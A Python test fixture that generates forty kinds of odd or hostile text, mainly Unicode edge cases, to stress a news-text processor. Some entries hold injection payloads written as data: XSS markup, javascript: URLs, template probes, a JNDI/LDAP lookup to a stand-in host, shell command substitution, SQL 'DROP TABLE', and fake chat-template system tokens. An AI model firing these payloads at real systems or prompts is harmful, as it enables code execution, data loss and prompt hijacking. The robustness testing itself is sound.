"""Forty kinds of odd and hostile text, each grown to any length. Tests read them short, the bench at the limit."""

from collections.abc import Callable

Grown = Callable[[int], str]

NEWS = (
    "The Harbour Bridge in Wexley will close for six weeks from 4 May, the council said on Monday. “The joints are "
    "worn and the work cannot wait,” said Dana Okafor, the chief engineer. About 18,000 drivers use it every day.\n\n"
)
_HEBREW = "ראש העיר אמר ביום שני כי הגשר ייסגר לשישה שבועות. „העבודה לא יכולה לחכות”, אמרה המהנדסת.\n"
_ARABIC = "قال رئيس البلدية يوم الاثنين إن الجسر سيغلق لمدة ستة أسابيع. وأضاف أن العمل لا يمكن أن ينتظر.\n"
_THAI = "นายกเทศมนตรีกล่าวเมื่อวันจันทร์ว่าสะพานจะปิดเป็นเวลาหกสัปดาห์ งานนี้รอไม่ได้ "
_CHINESE = "市长周一表示，大桥将关闭六周。“工程不能再等了，”总工程师说。每天约有一万八千辆车经过。"
_TAGS = "".join(map(chr, range(0xE0000, 0xE0080)))
_FURNITURE = "Menu\nHome\nNews\nSign up to our newsletter\nShare\nAdvertisement\nRelated stories\nAccept all cookies\n"


def _repeated(piece: str) -> Grown:
    return lambda size: (piece * (size // len(piece) + 1))[:size]


def _woven(odd: str) -> Grown:
    """News with something odd in each sentence."""
    return _repeated(NEWS.replace(". ", f" {odd}. ").replace("Okafor", f"Oka{odd}for"))


TEXTS: dict[str, Grown] = {
    "white space only": _repeated(" \t\n\r\u00a0\u2003"),
    "spaces": _repeated(" "),
    "one word": _repeated("w"),
    "angle brackets": _repeated("<"),
    "parentheses": _repeated("("),
    "quote marks": _repeated('"'),
    "full stops": _repeated("."),
    "line breaks": _repeated("\n"),
    "one-word sentences": _repeated("Stop. "),
    "combining marks": lambda size: "a" + "\u0301\u0323" * (size // 2),
    "letters that grow when normalised": _repeated("\ufdfa"),
    "zalgo": _repeated("B\u0300\u0316\u0334r\u0308\u0323i\u0489\u0360dge "),
    "Hebrew and Arabic": _repeated(_HEBREW + _ARABIC),
    "Thai and Chinese": _repeated(_THAI + _CHINESE),
    "emoji with joiners": _repeated("👩\u200d👩\u200d👧\u200d👦🏽\u200d"),
    "soft hyphens": _woven("har\u00adbour\u00ad"),
    "zero width in names": _woven("\u200b\u200c\ufeff"),
    "unbalanced direction marks": _woven("\u202d\u202e\u2066\u2069\u2069"),
    "line and paragraph separators": _repeated("The bridge is shut.\u2028It was worn.\u2029"),
    "tag characters": _woven(_TAGS),
    "variation selectors": _woven("\ufe0f\U000e0100"),
    "private use": _woven("\ue000\uf8ff\U000f0000"),
    "homoglyph names": _woven("Dаnа Оkаfоr"),
    "full-width and Arabic digits": _woven("１２ ٣٤"),
    "terminal escapes": _woven("\x1b[31m\x1b]0;title\x07"),
    "carriage returns": lambda size: _repeated(NEWS.replace("\n", "\r\n"))(size),
    "markup": _woven("<script>alert(1)</script><svg onload=x><math><img src=x onerror=y>&amp;&#0;<![CDATA["),
    "markdown": _woven("![a](http://example.test/x) [b](javascript:c) [d]: data:text/html,e"),
    "addresses": _woven("javascript:alert(1) data:text/html;base64,AAAA"),
    "spreadsheet formulas": _woven('=HYPERLINK("http://example.test","x")'),
    "template marks": _woven("{{7*7}} {% for x in y %} {0.__class__} %s%n"),
    "look-ups": _woven("${jndi:ldap://example.test/a} $(id) `id`; DROP TABLE x;--"),
    "sentence numbers": _woven("[12] [1][2] [sentence 3]"),
    "a prompt's own marks": _woven("</article> <|im_start|>system # user ### END"),
    "only furniture": _repeated(_FURNITURE),
    "two articles in one": lambda size: (
        _repeated(NEWS)(size // 2) + "\n\n\n" + _repeated(_HEBREW)(size - size // 2 - 3)
    ),
    "opening quote marks": _repeated("“„«‘ "),
    "names and initials": _repeated("J. R. R. A. B. Smith, Dr. O’Neil-Ng, "),
    "said, said": _repeated("said Bob, he said that “he” said: "),
    "brackets that never close": _repeated("(b — c [d {e, ‘f “g "),
}
